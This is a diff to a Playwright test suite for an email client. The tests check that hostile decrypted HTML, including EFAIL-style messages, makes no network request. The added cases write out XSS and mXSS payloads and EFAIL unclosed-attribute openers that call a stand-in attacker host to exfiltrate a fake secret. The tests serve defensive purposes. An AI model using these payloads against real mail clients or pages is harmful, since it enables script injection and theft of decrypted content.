@@ -145,6 +145,18 @@ const CASES: Case[] = [
     frameAlone: true,
   },
   {
+    name: 'script, event handlers and mXSS parser tricks',
+    html: () =>
+      `<p>${VISIBLE}</p><img src=x onerror="fetch('${A}/onerror')"><script>fetch('${A}/script')</script>` +
+      `<noscript><p title="</noscript><img src=${A}/noscript>"></noscript>` +
+      `<svg><p><style><img src=${A}/mxss-svg-style></style></p></svg>` +
+      `<math><mtext><table><mglyph><style><img src=${A}/mxss-math>` +
+      `<!--<img src="--><img src=${A}/comment>-->` +
+      `<div style="background:url(&#104;ttp://localhost:${attacker.port}/entity)">e</div>` +
+      `<details open ontoggle="fetch('${A}/ontoggle')">d</details>`,
+    interact: clickEverything,
+  },
+  {
     name: 'a link is not followed without a click on its opener',
     html: () => `<p>${VISIBLE}</p><a href="${A}/link" ping="${A}/ping">Klicka här</a> <a href="javascript:fetch('${A}/js')">js</a> <area href="${A}/area">`,
     interact: clickEverything,
@@ -187,6 +199,7 @@ describe('EFAIL: hostile decrypted HTML makes no request', () => {
         browser.reset();
         await page.evaluate((h) => (window as unknown as { kuvert: { rawFrame(h: string, g: boolean): void } }).kuvert.rawFrame(h, true), c.html());
         await page.waitForTimeout(SETTLE_MS);
+        await browser.settle((u) => !own(u));
         expect(leakedPastBlocks('frame alone')).toEqual(nothing('frame alone'));
       }
       await page.close();
@@ -208,6 +221,37 @@ describe('EFAIL: hostile decrypted HTML makes no request', () => {
     expect(await frames[0]!.locator('[src], [srcset]').count()).toBe(0);
     expect(await frames[2]!.locator('body').innerText()).toContain('">');
     await page.screenshot({ path: join(shots, 'efail-unclosed-attribute.png'), fullPage: true });
+    await page.close();
+  }, 60_000);
+
+  const OPENERS: readonly { name: string; open: (a: string) => string; close: string }[] = [
+    { name: 'img src', open: (a) => `<img src="${a}/efail?`, close: '">' },
+    { name: 'CSS url(', open: (a) => `<style>body{background:url(${a}/efail?`, close: ')}</style>' },
+    { name: 'a href', open: (a) => `<a href="${a}/efail?`, close: '">weiter</a>' },
+    { name: 'background attribute', open: (a) => `<table background="${a}/efail?`, close: '"><tr><td>x</td></tr></table>' },
+    { name: 'link href', open: (a) => `<link rel="stylesheet" href="${a}/efail?`, close: '">' },
+  ];
+  for (const opener of OPENERS) {
+    it(`the unclosed-attribute trick across MIME parts, opened by ${opener.name}`, async () => {
+      const page = await openPage();
+      const secret = 'Hemligt 19121212-1212';
+      const frames = await render(page, mixed(`Content-Type: text/html\n\n${opener.open(A)}`, `Content-Type: text/html\n\n<p>${secret}</p>`, `Content-Type: text/html\n\n${opener.close}`));
+      await clickEverything(frames);
+      await page.waitForTimeout(SETTLE_MS);
+      expect(leaked('view')).toEqual(nothing('view'));
+      expect(await frames[1]!.locator('body').innerText()).toContain(secret);
+      for (const target of await page.locator('[data-testid="link-target"]').allInnerTexts()) expect(target).not.toContain('19121212');
+      await page.close();
+    }, 60_000);
+  }
+
+  it('the unclosed-attribute trick inside one decrypted part (a ciphertext gadget) makes no request', async () => {
+    const page = await openPage();
+    const frames = await render(page, htmlMessage(`<p>${VISIBLE}</p><img src="${A}/gadget?<p>Hemligt 19121212-1212</p><p>mer</p>">`));
+    await clickEverything(frames);
+    await page.waitForTimeout(SETTLE_MS);
+    expect(leaked('view')).toEqual(nothing('view'));
+    expect(await frameText(frames)).toContain(VISIBLE);
     await page.close();
   }, 60_000);
 
